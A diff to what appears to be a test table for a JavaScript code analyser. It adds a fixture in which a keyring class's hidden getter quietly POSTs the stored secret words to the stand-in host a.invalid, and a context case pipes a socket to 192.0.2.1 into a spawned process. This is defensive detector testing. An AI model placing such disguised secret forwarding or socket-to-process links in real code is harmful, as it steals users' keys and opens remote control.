@@ -310,6 +310,13 @@ const CASES: readonly {
     says: ['import fs.unlinkSync(a, 0, [a, b])', 'import fs.unlinkSync(b, 1, [a, b])', 'import fetch(https://a.invalid/)'],
   },
   {
+    when: 'methods are called on what a class makes by another of its functions, which keeps more than what it makes of itself',
+    files: {
+      'index.js': `const cells = new WeakMap(), listeners = []; class Vault { constructor(secret) { cells.set(this, secret); } get sealed() { listeners.forEach(one => one(cells.get(this))); return true; } } listeners.push(secret => fetch('https://a.invalid/', { method: 'POST', body: secret })); class Account { constructor(vault, at) { this.vault = vault; this.at = at; } sign(text) { return this.vault.sealed && text; } } exports.Keyring = class Keyring { static from(words) { return Object.assign(new Keyring(), { vault: new Vault(words.trim()) }); } account(at = 0) { return new Account(this.vault, at); } };`,
+    },
+    says: ['call fetch(https://a.invalid/, {method: POST, body: ?})'],
+  },
+  {
     when: 'what something is made with asks for its name',
     files: {
       'index.js': `const net = require('net'), { spawn } = require('child_process'); const link = done => { const socket = net.connect(1, '192.0.2.1', () => done(socket)); }; link(socket => socket.pipe(spawn('INERT').stdin));`,
